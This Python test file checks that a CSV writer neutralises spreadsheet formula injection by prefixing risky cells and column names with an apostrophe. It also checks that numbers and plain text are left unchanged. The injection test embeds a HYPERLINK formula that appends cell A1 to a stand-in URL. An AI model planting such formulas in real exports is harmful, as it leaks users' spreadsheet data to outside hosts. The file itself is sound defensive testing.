"""CSV for spreadsheets: what a cell holds is shown, never run."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest

from onefunnel.status import write_csv


def written(names: list[str], *rows: list[Any]) -> list[list[str]]:
    to = io.StringIO(newline="")
    write_csv(names, [dict(zip(names, row, strict=True)) for row in rows], to)
    return list(csv.reader(io.StringIO(to.getvalue(), newline="")))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(start: str) -> None:
    text = f'{start}HYPERLINK("http://example.com?"&A1,"x")'
    assert written(["name"], [text]) == [["name"], ["'" + text]]
    assert written([text], ["x"]) == [["'" + text], ["x"]], "a column can be named by the query"


def test_numbers_and_usual_text_are_left_alone() -> None:
    row = [Decimal("-12.50"), -3, "a=b", "Zürich, 100 %", "", None]
    names = list("abcdef")
    assert written(names, row) == [names, ["-12.50", "-3", "a=b", "Zürich, 100 %", "", ""]]
